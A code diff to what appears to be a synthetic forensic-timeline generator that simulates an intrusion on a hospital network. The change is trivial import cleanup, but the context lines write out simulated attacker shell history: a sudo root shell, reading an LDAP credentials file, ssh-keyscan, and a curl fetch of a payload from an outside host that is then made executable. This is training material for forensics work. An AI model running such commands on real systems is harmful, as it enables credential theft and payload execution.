@@ -33,9 +33,9 @@ import shutil
 import struct
 import subprocess
 import uuid
-from dataclasses import asdict, dataclass, field
+from dataclasses import asdict, dataclass
 from pathlib import Path
-from typing import Any, Iterator
+from typing import Any
 from zoneinfo import ZoneInfo
 
 from timeline.errors import ForensicsError
@@ -439,7 +439,7 @@ def _attack(rng: random.Random, dc: WinHost, fs: WinHost, app: LinuxHost, db: Li
 
     # 3. privilege escalation: sudo to a root shell, 07:31
     t = ist(7, 31, 5)
-    app.log(app.auth, t, "sudo", f"  ehadmin : TTY=pts/1 ; PWD=/home/ehadmin ; USER=root ; COMMAND=/bin/bash")
+    app.log(app.auth, t, "sudo", "  ehadmin : TTY=pts/1 ; PWD=/home/ehadmin ; USER=root ; COMMAND=/bin/bash")
     app.log(app.auth, t, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by ehadmin(uid=1042)")
     hist = [(ist(7, 31, 30), "cat /opt/ehospital/conf/ldap.properties"), (ist(7, 33, 2), "ssh-keyscan 10.10.1.10"),
             (ist(7, 40, 11), "curl -s http://198.51.100.23/x/lck -o /tmp/.x/lck"), (ist(7, 40, 30), "chmod +x /tmp/.x/lck")]
